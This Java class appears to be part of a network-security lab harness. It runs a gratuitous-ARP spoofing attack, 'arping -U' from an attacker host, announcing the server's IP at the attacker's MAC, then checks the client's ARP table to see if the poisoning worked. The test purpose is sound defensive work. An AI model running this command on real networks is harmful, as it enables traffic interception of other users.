package dev.bastion.agent.attack;

import java.util.List;

/**
 * Gratuitous ARP (arping -U) announcing the server's IP at the attacker's MAC. Linux lets a gratuitous ARP override
 * an entry it already has, so the proof is the client's ARP table after the announcement.
 */
final class GratuitousArpSpoofing implements Attack {

    @Override
    public String name() {
        return "arp-spoof-gratuitous";
    }

    @Override
    public String goal() {
        return "take over a peer's IP in the victims' ARP tables by gratuitous ARP";
    }

    @Override
    public Component component() {
        return Component.DIRECT_ARP;
    }

    @Override
    public Finding attempt(AttackLab lab) {
        Cast cast = lab.cast();
        String server = Cast.ip(cast.server());
        lab.ping(cast.client(), server);
        lab.sh(cast.attacker(), "arping -U -c 2 -w 1 -i eth0 -S \"$1\" \"$1\" >/dev/null 2>&1", List.of(server));
        String entry = lab.arpEntry(cast.client(), server).orElse("none");
        return Finding.effect(entry.equals(Cast.mac(cast.attacker())), cast.client().name() + "'s ARP entry for "
                + cast.server().name() + " " + server + " is " + entry + " after the announcement (attacker "
                + Cast.mac(cast.attacker()) + ", real " + Cast.mac(cast.server()) + ")");
    }
}
